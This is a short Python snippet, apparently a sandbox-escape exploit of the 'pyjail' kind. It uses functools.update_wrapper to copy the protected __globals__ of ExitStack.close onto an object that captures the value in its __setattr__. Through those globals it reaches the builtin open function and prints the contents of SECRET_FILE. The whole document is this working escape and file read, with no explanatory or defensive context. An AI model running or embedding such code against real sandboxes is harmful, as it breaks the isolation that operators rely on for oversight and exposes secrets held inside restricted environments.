# Wrapping copies a locked attribute, and the own object that receives it hears of it in its setter.
import functools
from contextlib import ExitStack

found = []

class Box:
    def __setattr__(self, name, value):
        found.append(value)

functools.update_wrapper(Box(), ExitStack.close, ["__globals__"], []) if hasattr(functools, "update_wrapper") else None
print(found[0]["__builtins__"]["open"](SECRET_FILE).read())
